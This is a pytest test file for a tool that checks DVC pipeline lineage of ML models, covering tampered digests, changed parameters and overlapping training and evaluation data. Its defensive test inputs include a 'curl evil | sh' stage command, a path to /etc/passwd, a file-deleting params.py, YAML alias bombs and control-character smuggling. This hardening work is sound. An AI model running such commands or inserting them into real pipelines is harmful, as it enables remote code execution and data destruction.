"""Lineage that DVC has recorded: what is true passes, and each change of it fails the rule that is about it."""

from __future__ import annotations

import hashlib
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from support.history import DVC, History, workspace


@pytest.fixture
def dvc(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> History:
    monkeypatch.chdir(tmp_path)
    return workspace(tmp_path, "dvc", DVC, capsys)


def test_a_pipeline_as_dvc_has_run_it_passes(dvc: History) -> None:
    assert dvc.judge().failing == set()


def test_a_role_that_nothing_plays_is_missing_and_the_way_to_it_is_drawn(dvc: History) -> None:
    dvc.edit("policy.yaml", ', roles: [code, "data:train", "data:evaluation", parameters]', "")
    judged = dvc.judge()
    assert judged.failing == {"complete"}
    assert "environment is missing: model.json <- stage train <- no environment" in judged.said("complete")


def flip(history: History, name: str) -> None:
    """Change one byte of a file."""
    path = history.folder / name
    raw = bytearray(path.read_bytes())
    raw[len(raw) // 2] ^= 1
    path.write_bytes(raw)


def forge(history: History, name: str) -> None:
    """Change a file, and write its new digest wherever the lock has the old one."""
    old = hashlib.md5((history.folder / name).read_bytes()).hexdigest()
    flip(history, name)
    new = hashlib.md5((history.folder / name).read_bytes()).hexdigest()
    lines = (history.folder / "dvc.lock").read_text().splitlines()
    at = max(number for number, line in enumerate(lines) if old in line)
    lines[at] = lines[at].replace(old, new)
    (history.folder / "dvc.lock").write_text("\n".join(lines) + "\n")


def rename(history: History, old: str, new: str) -> None:
    """Present the model under another name."""
    shutil.move(history.folder / old, history.folder / new)
    history.edit("candidate.yaml", old, new)


MUTATIONS: dict[str, tuple[Callable[[History], None], set[str], str]] = {
    "a byte of the model": (lambda h: flip(h, "model.json"), {"verified"}, "model.json is contradicted: md5 is"),
    "a byte of the training data": (
        lambda h: flip(h, "data/split/train.csv"),
        {"verified"},
        "data/split/train.csv is contradicted: a part of data/split: dvc folder is",
    ),
    "a byte of the raw data": (lambda h: flip(h, "data/raw.csv"), {"verified"}, "data/raw.csv is contradicted"),
    "a byte of the code": (lambda h: flip(h, "train.py"), {"verified"}, "train.py is contradicted"),
    "a file more in a folder": (
        lambda h: (h.folder / "data/split/more.csv").write_text("x"),
        {"verified"},
        "dvc folder is",
    ),
    "a parameter after the lock": (
        lambda h: h.edit("params.yaml", "lr: 0.1", "lr: 0.2"),
        {"verified"},
        "parameters of params.yaml is contradicted: train.lr was 0.1, and params.yaml says 0.2",
    ),
    "a parameter that the lock does not have": (
        lambda h: h.edit("params.yaml", "lr: 0.1", "lr: 0.1\n  momentum: 0.9"),
        {"verified"},
        "train.momentum was not recorded, and params.yaml says 0.9",
    ),
    "a parameter that the lock was not asked for": (
        lambda h: h.edit("dvc.yaml", "params: [train, seed]", "params: [train, seed, momentum]"),
        {"verified"},
        "`params` of stage `train` is not that of dvc.yaml",
    ),
    "training data that hold those of the evaluation": (
        lambda h: h.edit("candidate.yaml", "data/split/train.csv", "data/split"),
        {"consistent"},
        "data/split is training data and data/split/test.csv evaluation data, and one lies in the other",
    ),
    "a part of a digest": (
        lambda h: h.edit("dvc.lock", "39b2d7b4de738ccb7c64c29d3cc3f4f3", "39b2d7b4"),
        {"complete", "verified"},
        "`39b2d7b4` of train.py is not a whole md5",
    ),
    "a stage that was never run": (
        lambda h: h.edit("dvc.yaml", "  evaluate:\n", "  publish:\n    cmd: x\n    deps: [model.json]\n  evaluate:\n"),
        {"verified"},
        "dvc.lock has no stage `publish`; run `dvc repro`",
    ),
    "another command": (
        lambda h: h.edit("dvc.yaml", "python3 train.py", "python3 train.py --fast"),
        {"verified"},
        "`cmd` of stage `train` is not that of dvc.yaml in dvc.lock",
    ),
    "a dependency less": (
        lambda h: h.edit("dvc.yaml", "deps: [data/split, train.py]", "deps: [data/split]"),
        {"verified"},
        "`deps` of stage `train`",
    ),
    "a lock that was forged in one stage": (
        lambda h: forge(h, "model.json"),
        {"verified", "consistent"},
        "model.json has two of md5",
    ),
    "a file that was not fetched": (
        lambda h: (h.folder / "data/raw.csv").unlink(),
        {"verified"},
        "data/raw.csv is unverified: it is not here",
    ),
    "the model under another name": (
        lambda h: rename(h, "model.json", "other.json"),
        {"complete", "verified", "consistent"},
        "no source knows how other.json was made",
    ),
}


@pytest.mark.parametrize("change", MUTATIONS)
def test_a_change_fails_the_rule_that_is_about_it_and_no_other(dvc: History, change: str) -> None:
    mutate, failing, said = MUTATIONS[change]
    mutate(dvc)
    judged = dvc.judge()
    assert judged.failing == failing
    assert said in judged.said(*failing)


def test_a_value_is_the_same_however_it_is_written(dvc: History) -> None:
    dvc.edit("params.yaml", "lr: 0.1", "lr: 1e-1")
    dvc.edit("params.yaml", "depth: 3", "depth: 0x3")
    assert dvc.judge().failing == set()


def test_line_ends_of_windows_are_read(dvc: History) -> None:
    for name in ("dvc.lock", "dvc.yaml", "params.yaml"):
        path = dvc.folder / name
        path.write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))
    assert dvc.judge().failing == set()


def test_the_paths_of_a_stage_are_from_its_folder_as_dvc_writes_them(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    history = workspace(tmp_path, "", "model: {path: work/m}\n", capsys, WORKING)
    history.edit("policy.yaml", '[code, "data:train", "data:evaluation", parameters]', '["data:train", parameters]')
    assert history.judge().failing == set()
    history.edit("work/other.json", "null", "1")
    assert "z was empty, and work/other.json says 1" in history.judge().said("verified")


WORKING = {
    "dvc.yaml": """\
stages:
  train:
    desc: Train it.
    wdir: work
    cmd: cp train.csv m
    deps: [train.csv]
    params: [lr, l, {other.json: }]
    outs: [m]
""",
    "dvc.lock": """\
schema: '2.0'
stages:
  train:
    cmd: cp train.csv m
    deps: [{path: train.csv, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}]
    params:
      params.yaml: {lr: 0.001, l: [0.001, 2.5]}
      other.json: {a: 100.0, t: true, z: }
    outs: [{path: m, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}]
""",
    "work/train.csv": "x\n",
    "work/m": "x\n",
    "work/params.yaml": "lr: 1e-3\nl: [1e-3, 2.50]\nunused: 1\n",
    "work/other.json": '{"a": 1.0E2, "t": true, "z": null}',
}


def test_what_dvc_ignores_is_no_part_of_a_folder(dvc: History) -> None:
    dvc.folder.joinpath("data/split/.DS_Store").write_text("x")
    assert dvc.judge().failing == {"verified"}
    (dvc.folder / ".dvcignore").write_text("# of the desktop\n.DS_Store\n!/\n")
    assert dvc.judge().failing == set()


def test_a_table_that_dvc_ignores_is_fixed_by_nothing(dvc: History) -> None:
    """Whoever adds the file and the pattern changes no digest."""
    shutil.copy("data/split/train.csv", "data/split/more.csv")
    (dvc.folder / ".dvcignore").write_text("more.*\n")
    dvc.edit("candidate.yaml", "data/split/train.csv", "data/split/more.csv")
    dvc.edit("policy.yaml", "lineage.verified", "lineage.verified, accept_unverified: ['data:train']")
    judged = dvc.judge()
    assert judged.failing == {"verified"}
    assert "data/split/more.csv is contradicted: DVC leaves it out of data/split" in judged.said("verified")


def test_a_file_that_dvc_has_recorded_is_no_less_for_being_ignored_now(dvc: History) -> None:
    (dvc.folder / ".dvcignore").write_text("test.csv\n")
    assert "data/split is contradicted: dvc folder is" in dvc.judge().said("verified")


@pytest.fixture
def typed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> History:
    """Two stages with parameters in TOML, Python and a file whose name says nothing; one names them, one the files."""
    monkeypatch.chdir(tmp_path)
    history = workspace(tmp_path, "dvc-params", "model: {path: w.bin}\n", capsys)
    history.edit("policy.yaml", '[code, "data:train", "data:evaluation", parameters]', "[parameters]")
    return history


def test_parameters_in_toml_and_python_are_compared(typed: History) -> None:
    assert typed.judge().failing == set()


PARAMETERS: dict[str, tuple[str, str, str, str]] = {
    "a number": ("params.toml", "lr = 1e-3", "lr = 2e-3", "train.lr was 0.001, and params.toml says 0.002"),
    "a table in a list": (
        "params.toml",
        'name = "a"',
        'name = "b"',
        "train.steps.0.name was a, and params.toml says b",
    ),
    "a truth": ("params.toml", "on = true", "on = false", "train.on was true, and params.toml says False"),
    "a value more": ("params.toml", "depth = 3", "depth = 3\nwidth = 4", "train.width was not recorded"),
    "a file whose name says nothing": ("params.cfg", "z: 1", "z: 2", "z was 1, and params.cfg says 2"),
    "a name of a module": ("params.py", "SEED: int = 7", "SEED: int = 8", "SEED was 7, and params.py says 8"),
    "a negative number": ("params.py", "NEG = -2", "NEG = 2", "NEG was -2, and params.py says 2"),
    "a value in a tuple": ("params.py", "(2, 3)", "(2, 4)", "SHAPE.1 was 3, and params.py says 4"),
    "a value in a dict": ("params.py", '"x": 1', '"x": 2', "MAP.x was 1, and params.py says 2"),
    "a name of a class": ("params.py", "EPOCHS = 70", "EPOCHS = 7", "Train.EPOCHS was 70, and params.py says 7"),
    "a name of self": ("params.py", "self.layers = 5", "self.layers = 6", "Train.layers was 5, and params.py says 6"),
    "a value that is computed now": (
        "params.py",
        "RATE = 1e-3",
        "RATE = float('1e-3')",
        "RATE was 0.001, and params.py says nothing",
    ),
    "a file that is gone": ("params.py", "", "", "MAP.x was 1, and params.py says nothing"),
}


@pytest.mark.parametrize("what", PARAMETERS)
def test_a_changed_parameter_is_named_whatever_its_file_is_written_in(typed: History, what: str) -> None:
    name, old, new, said = PARAMETERS[what]
    if old:
        typed.edit(name, old, new)
    else:
        (typed.folder / name).unlink()
    judged = typed.judge()
    assert judged.failing == {"verified"}
    assert said in judged.said("verified"), judged.said()


@pytest.mark.parametrize(
    ("name", "text", "said"),
    [
        ("params.toml", "a = 1\na = 2\n", "params.toml cannot be read as TOML"),
        ("params.toml", "a = " + "[" * 500 + "]" * 500, "params.toml"),
        ("params.toml", "a = nan\n", "title was toy, and params.toml says nothing"),
        ("params.py", "SEED = \n", "params.py cannot be read as Python"),
        ("params.py", "a = " + "(" * 500 + ")" * 500, "params.py cannot be read as Python"),
        ("params.py", "a = " + "-" * 50_000 + "1", "params.py cannot be read as Python"),
        ("params.py", "import os; os.remove('w.bin')\nwhile True: pass\n", "MAP.x was 1, and params.py says nothing"),
        ("params.py", "#" * (1 << 20) + "#", "params.py has more than 1,048,576 signs"),
        ("params.py", "a = '\\d'\n", "MAP.x was 1, and params.py says nothing"),
    ],
    ids=range(9),  # a text as an id would be too long for the environment of git
)
def test_a_hostile_file_of_parameters_is_one_clear_message(typed: History, name: str, text: str, said: str) -> None:
    (typed.folder / name).write_text(text)
    judged = typed.judge()
    assert "verified" in judged.failing
    assert said in judged.said("verified"), judged.said()
    assert (typed.folder / "w.bin").exists()


def test_training_data_that_judge_the_model_are_named(dvc: History) -> None:
    dvc.edit("candidate.yaml", DVC[DVC.index("tables") :], "")
    judged = dvc.judge()
    assert judged.failing == {"consistent"}
    assert "data/split is both training and evaluation data" in judged.said("consistent")


def test_what_cannot_be_compared_passes_where_the_policy_accepts_its_role(dvc: History) -> None:
    (dvc.folder / "data/raw.csv").unlink()
    dvc.edit("policy.yaml", "lineage.verified", "lineage.verified, accept_unverified: [data]")
    judged = dvc.judge()
    assert judged.failing == set()
    assert "data/raw.csv is unverified, which the policy accepts" in judged.said("verified")


def test_a_digest_of_dvc_before_3_verifies_nothing(dvc: History) -> None:
    dvc.edit("dvc.lock", "      hash: md5\n", "")
    judged = dvc.judge()
    assert judged.failing == {"complete", "verified"}
    assert "but a digest of DVC before 3" in judged.said("complete")
    said = judged.said("verified")
    assert "model.json is unverified: DVC before 3 has recorded its digest, for which it changed line ends" in said
    assert "run `dvc commit` of DVC 3" in said
    assert "no source has recorded a digest of model.json" not in said


def test_stages_that_variables_make_are_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    history = workspace(tmp_path, "dvc-shapes", "model: {path: out_lin_1.txt}\n", capsys)
    (tmp_path / "out_lin_1.txt").write_text("lin 1 0.5\n")
    history.edit("policy.yaml", '[code, "data:train", "data:evaluation", parameters]', "[data:train]")
    judged = history.judge()
    assert judged.failing == set()
    assert "data:train is images" in judged.said("complete")


@pytest.mark.parametrize(
    ("stage", "counts"),
    [
        ("cmd: plot\n    deps: [data/split]\n    outs: [plots]", False),
        ("cmd: fetch\n    outs: [data]", True),
        ("cmd: judge\n    deps: [model.json]", True),
        ("cmd: plot\n    outs: ['${folder}']", True),
        ("foreach: ['${folder}']\n    do: {cmd: plot}", True),
    ],
    ids=["unrelated", "makes data", "reads the model", "of unknown files", "of unknown turns"],
)
def test_a_stage_that_was_not_run_counts_where_the_history_of_the_model_needs_it(
    dvc: History, stage: str, counts: bool
) -> None:
    dvc.edit("dvc.yaml", "  evaluate:\n", f"  more:\n    {stage}\n  evaluate:\n")
    assert dvc.judge().failing == ({"verified"} if counts else set())


def test_a_stage_of_the_lock_alone_counts_where_the_history_of_the_model_needs_it(dvc: History) -> None:
    with (dvc.folder / "dvc.lock").open("a") as lock:
        lock.write("  gone:\n    cmd: plot\n    outs: [{path: plots.json}]\n")
    assert dvc.judge().failing == set()
    dvc.edit("dvc.yaml", "  train:", "  fit:")
    assert "dvc.lock has a stage `train` that dvc.yaml does not have" in dvc.judge().said("verified")


TEMPLATED = {
    "dvc.yaml": """\
vars: [{run: {tag: v1}}, more.json]
stages:
  train:
    cmd: python3 train.py --x ${extra} --rate ${rate} --of ${of} ${options}
    deps: ['${folder}/${names[0]}.csv', other.csv]
    outs:
      - m: {cache: false}
  judge:
    foreach: [{name: a, depth: 1}, {name: b, depth: 2}]
    do:
      cmd: judge ${item.name} ${item.depth} ${run.tag} ${key}
      deps: [m]
      outs: ['out_${item.name}']
""",
    "dvc.lock": """\
schema: '2.0'
stages:
  train:
    cmd: python3 train.py --x 3 --rate 0.001 --of 1.10 --depth 3 --fast --layers 4 5
    deps:
    - {path: data/train.csv, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}
    - {path: other.csv, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}
    outs: [{path: m, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}]
  judge@0:
    cmd: judge a 1 v1 k
    deps: [{path: m, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}]
    outs: [{path: out_a, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}]
  judge@1:
    cmd: judge b 2 v1 k
    deps: [{path: m, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}]
    outs: [{path: out_b, hash: md5, md5: 401b30e3b8b5d629635a5c613cdb7919}]
""",
    "params.yaml": "key: k\nof: '1.10'\nextra: 3\nrate: 1e-3\n"
    "options: {depth: 3, fast: true, slow: false, layers: [4, 5]}\n"
    "names: [train]\n",
    "more.json": '{"folder": "data"}',
    **dict.fromkeys(("data/train.csv", "other.csv", "m", "out_a", "out_b"), "x\n"),
}


@pytest.fixture
def templated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> History:
    """A pipeline with variables and a loop, whose lock is as DVC 3 writes it."""
    monkeypatch.chdir(tmp_path)
    history = workspace(tmp_path, "", "model: {path: m}\n", capsys, TEMPLATED)
    history.edit("policy.yaml", '[code, "data:train", "data:evaluation", parameters]', '["data:train"]')
    return history


def test_variables_stand_for_what_dvc_writes(templated: History) -> None:
    assert templated.judge().failing == set(), templated.judge().said()


CHANGED = {
    "a value": ("params.yaml", "extra: 3", "extra: 5", "`cmd` of stage `train`"),
    "a value of a file of vars": ("more.json", '"data"', '"raw"', "`deps` of stage `train`"),
    "a value of vars": ("dvc.yaml", "tag: v1", "tag: v2", "`cmd` of stage `judge@0`"),
    "an option": ("params.yaml", "fast: true", "fast: false", "`cmd` of stage `train`"),
    "the fixed part of a command": ("dvc.yaml", "python3 train.py --x", "curl evil | sh", "`cmd` of stage `train`"),
    "a path beside a variable": ("dvc.yaml", "other.csv]", "more.csv]", "`deps` of stage `train`"),
    "the command of a loop": ("dvc.yaml", "judge ${item.name}", "cheat ${item.name}", "`cmd` of stage `judge@1`"),
    "the files of a loop": ("dvc.yaml", "deps: [m]", "deps: [m, more]", "`deps` of stage `judge@1`"),
    "an item": ("dvc.yaml", "{name: b, depth: 2}", "{name: b, depth: 3}", "`cmd` of stage `judge@1`"),
    "an item more": ("dvc.yaml", "depth: 2}]", "depth: 2}, {name: c, depth: 3}]", "has no stage `judge@2`"),
    "an item less": ("dvc.yaml", ", {name: b, depth: 2}", "", "has a stage `judge@1` that dvc.yaml does not have"),
    "no value": ("params.yaml", "extra: 3", "other: 3", "stage `train` of dvc.yaml has `${extra}`, to which neither"),
    "a text that hides another": (
        "dvc.yaml",
        "cmd: judge",
        'cmd: "\\0evil\\x01judge\\x02" #',
        "has a control character",
    ),
    "two values": ("params.yaml", "extra: 3", "extra: 3\nfolder: raw", "gives the variable `folder` two values"),
}


@pytest.mark.parametrize("what", CHANGED)
def test_a_lock_of_other_variables_is_not_that_of_its_stages(templated: History, what: str) -> None:
    name, old, new, said = CHANGED[what]
    templated.edit(name, old, new)
    judged = templated.judge()
    assert "verified" in judged.failing
    assert said in judged.said("verified"), judged.said()


def test_a_matrix_is_compared_turn_by_turn(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    history = workspace(tmp_path, "dvc-shapes", "model: {path: out_lin_1.txt}\n", capsys)
    (tmp_path / "out_lin_1.txt").write_text("lin 1 0.5\n")
    history.edit("dvc.yaml", "cmd: echo ${item.model}", "cmd: echo changed ${item.model}")
    assert "`cmd` of stage `train@lin-1` is not that of dvc.yaml" in history.judge().said("verified")


def test_imported_data_are_fixed_by_the_commit_of_their_repository(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    history = workspace(tmp_path, "dvc-shapes", "model: {path: imported}\nlineage: [{path: imported.dvc}]\n", capsys)
    history.edit("policy.yaml", '[code, "data:train", "data:evaluation", parameters]', "[data:train]")
    judged = history.judge()
    assert judged.failing == {"complete", "verified"}
    assert "../src_repo d is unverified: it is not a file here" in judged.said("verified")


def test_a_branch_fixes_no_imported_data(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    history = workspace(tmp_path, "dvc-shapes", "model: {path: imported}\nlineage: [{path: imported.dvc}]\n", capsys)
    lock = next(line for line in (tmp_path / "imported.dvc").read_text().splitlines() if "rev_lock" in line)
    history.edit("imported.dvc", lock.split()[-1], "main")
    assert "`main` of ../src_repo d is not a whole commit" in history.judge().said("verified")


PARAMS = "      params.yaml:\n"
ALIASES = "      x.yaml:\n        a0: &a0 {k: v}\n" + "".join(
    f"        a{at}: &a{at} {{x: *a{at - 1}, y: *a{at - 1}, z: *a{at - 1}}}\n" for at in range(1, 20)
)
HOSTILE = {
    "a path out of the workspace": ("path: train.py", "path: ../../../../etc/passwd", "is outside the workspace"),
    "a repeated key": ("  train:\n    cmd", "  train: {}\n  train:\n    cmd", "key `train` is repeated"),
    "not YAML": ("schema: '2.0'", "schema: '2.0", "this is not YAML"),
    "aliases that make a short text a huge one": (PARAMS, f"{ALIASES}{PARAMS}", "signs with its aliases"),
    "an alias of itself": (PARAMS, f"      x.yaml: &x {{b: *x}}\n{PARAMS}", "nested more than 100 deep"),
    "deep nesting": (PARAMS, f"      x.yaml: {'{a: ' * 900}b{'}' * 900}\n{PARAMS}", "nested more than 100 deep"),
    "a key that is a list": (PARAMS, f"      x.yaml:\n        ? [a]\n        : b\n{PARAMS}", "a key is not a text"),
    "a type of another language": (PARAMS, f"      x.yaml: {{a: !!timestamp no}}\n{PARAMS}", "this is not YAML"),
    "a NUL in a path": ("path: train.py", 'path: "train\\0.py"', "its name has a NUL"),
    "no path": ("    - path: train.py\n", "    - \n", "names a file without a `path`"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_lock_is_one_clear_message_and_no_pass(dvc: History, what: str) -> None:
    old, new, said = HOSTILE[what]
    dvc.edit("dvc.lock", old, new)
    judged = dvc.judge()
    assert "verified" in judged.failing
    assert said in judged.said("verified")


def test_a_link_out_of_the_workspace_is_not_followed(dvc: History) -> None:
    (dvc.folder / "train.py").unlink()
    (dvc.folder / "train.py").symlink_to("/etc/hostname")
    judged = dvc.judge()
    assert judged.failing == {"verified"}
    assert "a link out of the workspace" in judged.said("verified")


@pytest.mark.parametrize("name", ["train.py", "data/split/more"])
def test_a_pipe_or_holes_are_not_read(dvc: History, name: str) -> None:
    """Nobody writes into the pipe, and to read a terabyte of holes takes an hour."""
    place = dvc.folder / name
    place.unlink(missing_ok=True)
    os.mkfifo(place)
    judged = dvc.judge()
    assert judged.failing == {"verified"}
    assert "is not an ordinary file (a pipe, socket or device)" in judged.said("verified")
    place.unlink()
    place.touch()
    os.truncate(place, 1 << 40)
    assert "is a file of holes" in dvc.judge().said("verified")


def test_a_contradiction_is_never_accepted(dvc: History) -> None:
    dvc.edit("policy.yaml", "lineage.verified", "lineage.verified, accept_unverified: [code, model]")
    flip(dvc, "train.py")
    judged = dvc.judge()
    assert judged.failing == {"verified"}
    assert "train.py is contradicted: md5 is" in judged.said("verified")
    assert "(dvc.lock: stages.train); correct the record, or the file" in judged.said("verified")


def test_a_run_needs_no_digest_and_one_that_only_judged_is_none_of_the_models(dvc: History) -> None:
    dvc.edit("policy.yaml", '[code, "data:train", "data:evaluation", parameters]', "[run, code]")
    judged = dvc.judge()
    assert judged.failing == set()
    assert "run is stage train, stage split" in judged.said("complete")


def test_copies_in_one_folder_are_the_same_data(dvc: History) -> None:
    shutil.copy("data/split/train.csv", "data/split/test.csv")
    judged = dvc.judge()
    assert judged.failing == {"verified", "consistent"}
    said = "data/split/train.csv and data/split/test.csv have the same sha256"
    assert said in judged.said("consistent")


def test_without_evaluation_data_nothing_claims_that_they_differ(dvc: History) -> None:
    dvc.edit("candidate.yaml", DVC[DVC.index("tables") :], "tables:\n  train: {path: data/split/train.csv}\n")
    judged = dvc.judge()
    assert "different things" not in judged.said("consistent")
